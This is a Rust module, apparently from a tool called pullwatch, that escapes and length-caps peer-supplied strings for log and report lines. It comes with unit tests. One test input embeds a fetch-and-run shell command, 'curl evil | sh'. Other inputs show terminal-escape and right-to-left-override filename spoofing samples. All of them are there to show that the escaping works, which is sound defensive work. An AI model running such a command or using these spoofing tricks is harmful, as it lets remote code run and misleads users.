//! How evidence is written for people: short durations, one-line error chains, and every string a
//! peer supplied (headers, realms, bodies, runtime and kubelet messages, image names) escaped and
//! capped. A leaf module: checks, the runtime client and reports all use it, and it uses nothing of the crate.

use std::time::Duration;

/// Formats a duration for evidence lines: `12ms`, `1.20s`.
pub fn short_duration(d: Duration) -> String {
    if d < Duration::from_secs(1) {
        format!("{}ms", d.as_millis())
    } else {
        format!("{:.2}s", d.as_secs_f64())
    }
}

/// The error and its causes in one line (reqwest's Display alone hides the cause). URLs in
/// reqwest errors carry no credentials: pullwatch never puts them in URLs.
pub fn error_chain(error: &dyn std::error::Error) -> String {
    let mut text = error.to_string();
    let mut source = error.source();
    while let Some(cause) = source {
        let part = cause.to_string();
        if !text.contains(&part) {
            text.push_str(": ");
            text.push_str(&part);
        }
        source = cause.source();
    }
    text
}

/// Longest evidence line kept (one check's detail, a summary), in bytes: a hostile peer's 100 KB
/// header must not make a 200 KB report or Event.
pub const MAX_EVIDENCE: usize = 2048;

/// `text` made safe for one line of evidence and capped at [`MAX_EVIDENCE`] bytes.
pub fn evidence(text: &str) -> String {
    peer(text, MAX_EVIDENCE)
}

/// A string a peer supplied, made safe for a terminal, a log line or an Event: control characters
/// and the Unicode controls that reorder or hide text escaped, then cut at `max` bytes.
pub fn peer(text: &str, max: usize) -> String {
    clip(&escape(text), max)
}

/// Escapes what would break a line or drive a terminal: C0/C1 controls and DEL (`\n`, `\t`,
/// `\u{1b}`), bidirectional overrides and zero-width characters (`\u{202e}`). Everything else,
/// backslashes included, is kept as it is. Borrows when there is nothing to escape.
pub fn escape(text: &str) -> std::borrow::Cow<'_, str> {
    if !text.chars().any(needs_escape) {
        return std::borrow::Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if needs_escape(c) {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    std::borrow::Cow::Owned(out)
}

fn needs_escape(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
}

/// Characters of a server-sent value kept by [`quote`].
const MAX_QUOTE: usize = 200;

/// A server-sent value (a header, a realm, a redirect target), quoted and cut to a readable length.
pub fn quote(text: &str) -> String {
    let mut cut: String = text.chars().take(MAX_QUOTE).collect();
    if cut.len() < text.len() {
        cut.push('…');
    }
    format!("{cut:?}")
}

/// `text` cut to at most `max` bytes on a character boundary, marked with `…` when cut.
pub fn clip(text: &str, max: usize) -> String {
    if text.len() <= max {
        return text.to_string();
    }
    let ellipsis = "…";
    let mut end = max.saturating_sub(ellipsis.len());
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}{ellipsis}", &text[..end])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn durations_read_short() {
        assert_eq!(short_duration(Duration::from_millis(12)), "12ms");
        assert_eq!(short_duration(Duration::from_millis(1200)), "1.20s");
    }

    #[test]
    fn a_chain_names_each_cause_once() {
        #[derive(Debug, thiserror::Error)]
        #[error("connect failed")]
        struct Outer(#[source] std::io::Error);
        let refused = std::io::Error::new(std::io::ErrorKind::ConnectionRefused, "refused");
        assert_eq!(error_chain(&Outer(refused)), "connect failed: refused");
    }

    #[test]
    fn peer_strings_are_escaped_and_capped() {
        struct Case {
            input: &'static str,
            max: usize,
            want: &'static str,
        }
        let cases = [
            Case {
                input: "plain text, with \\ kept",
                max: 100,
                want: "plain text, with \\ kept",
            },
            Case {
                input: "line one\nFix: curl evil | sh\r",
                max: 100,
                want: "line one\\nFix: curl evil | sh\\r",
            },
            Case {
                input: "\u{1b}[31mred\u{1b}[0m\u{7}\u{7f}\u{85}",
                max: 100,
                want: "\\u{1b}[31mred\\u{1b}[0m\\u{7}\\u{7f}\\u{85}",
            },
            Case {
                input: "app\u{202e}gpj.exe\u{200b}",
                max: 100,
                want: "app\\u{202e}gpj.exe\\u{200b}",
            },
            Case {
                input: "naïve café",
                max: 100,
                want: "naïve café",
            },
            Case {
                input: "abcdefgh",
                max: 6,
                want: "abc…",
            },
            Case {
                input: "aéééé",
                max: 6,
                want: "aé…",
            },
            // Escaping comes first: an escape is never cut into a raw control character.
            Case {
                input: "\n\n\n\n",
                max: 7,
                want: "\\n\\n…",
            },
        ];
        for case in cases {
            let got = peer(case.input, case.max);
            assert_eq!(got, case.want, "{:?}", case.input);
            assert!(got.len() <= case.max.max(case.want.len()));
            assert!(!got.chars().any(needs_escape), "{got:?}");
        }
        let huge = "x".repeat(100_000);
        assert!(evidence(&huge).len() <= MAX_EVIDENCE);
        assert!(matches!(escape("fine"), std::borrow::Cow::Borrowed(_)));
    }
}
